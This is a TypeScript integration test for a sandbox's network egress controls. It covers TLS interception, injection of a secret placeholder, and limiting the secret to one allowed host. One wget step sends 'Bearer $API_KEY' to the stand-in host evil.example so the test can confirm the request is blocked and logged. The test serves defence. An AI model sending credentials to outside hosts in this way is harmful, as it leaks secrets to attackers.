/** Interception and secrets from a real guest on: what its programs trust, what they have, and what the server gets. @module */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { originAuthority, originCertificate } from "../support/egress/origin.ts";
import { temporaryDirectory } from "../support/harness.ts";
import { Outside, outsideProblem } from "../support/vm/outside.ts";
import { homeTest } from "../support/vm/vm.ts";

/** An HTTPS server that answers with the digest of the Authorization that it got, so that nothing in it is hidden. */
const SERVER = `
import hashlib, http.server, ssl, sys
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = hashlib.sha256((self.headers["Authorization"] or "").encode()).hexdigest().encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *words):
        pass
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(sys.argv[2], sys.argv[1])
server = http.server.ThreadingHTTPServer(("", 443), Handler)
server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
print("serving", flush=True)
server.serve_forever()
`;

const isDeno = "Deno" in globalThis;
const digest = (text: string) => createHash("sha256").update(text).digest("hex");

homeTest(
  "network user reads a guest's TLS, puts a secret into it, and lets it go nowhere else",
  async ({ create }) => {
    using directory = temporaryDirectory();
    const file = (name: string, text: string): string => {
      const path = join(directory.path, name);
      writeFileSync(path, text);
      return path;
    };
    const { key, cert } = originCertificate("api.example");
    const words = [file("key.pem", key), file("cert.pem", cert)];
    using outside = await Outside.start(["python3", "-u", "-c", SERVER, ...words]);
    const sandbox = await create({
      network: {
        allow: ["any"],
        secrets: { API_KEY: { value: "value-of-the-key", hosts: ["api.example"] } },
        tls: { upstreamCaCertPaths: [file("authority.pem", originAuthority.certificate)] },
      },
    });
    const shell = async (script: string) => (await sandbox.shell(script)).stdout().trim();
    await shell(`for name in api evil; do echo "${outside.address} $name.example" >> /etc/hosts; done`);

    // What it has, and what it trusts.
    assert.equal(await shell("echo $API_KEY"), "$MSB_API_KEY");
    assert.equal(await shell("env | grep -c value-of"), "0");
    const bundle = await shell("cat $SSL_CERT_FILE");
    assert.match(
      bundle,
      /microsandbox: the authority of this sandbox's network\n-----BEGIN CERTIFICATE-----/,
    );
    assert.equal(await shell("cat $NODE_EXTRA_CA_CERTS | grep -c BEGIN"), "1");
    assert.match(await shell("ls /etc/ssl/certs"), /^[0-9a-f]{8}\.0$/m);

    // What the server gets. The guest's only client is BusyBox's, which gets no handshake with the TLS of Deno; others do, in
    // tests/interop/egress.
    if (isDeno) return;
    const get = (host: string, header: string) =>
      shell(
        `timeout 60 wget -qO- --header "Authorization: ${header}" https://${host}/ 2>&1 | grep -v "^wget: note"`,
      );
    assert.equal(await get("api.example", "Bearer $API_KEY"), digest("Bearer value-of-the-key"));
    assert.match(await get("evil.example", "Bearer $API_KEY"), /403 Forbidden/);
    assert.match(await get("evil.example", "none"), /502 Bad Gateway/); // its certificate is for another name

    await sandbox.stop();
    const text = (await sandbox.logs({ sources: ["network"] })).map((entry) => entry.text()).join("\n");
    assert.match(text, /"reason":"violation".*API_KEY/);
    assert.match(text, /api\.example/);
    assert.doesNotMatch(text, /value-of/);
  },
  { missing: outsideProblem },
);
